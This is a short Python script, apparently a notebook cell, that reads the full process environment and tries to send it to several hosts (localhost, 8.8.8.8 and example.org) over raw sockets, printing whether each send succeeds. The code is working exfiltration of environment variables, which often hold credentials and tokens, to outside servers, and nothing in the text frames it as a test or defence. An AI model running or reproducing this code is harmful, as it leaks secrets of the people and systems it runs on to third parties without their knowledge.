# Sends what it finds to a server, over sockets of every kind.
# %% first
import os, socket

for where in (("127.0.0.1", 80), ("8.8.8.8", 53), ("example.org", 443)):
    try:
        socket.create_connection(where, timeout=1).send(str(os.environ).encode())
        print("sent")
    except OSError as error:
        print(error)
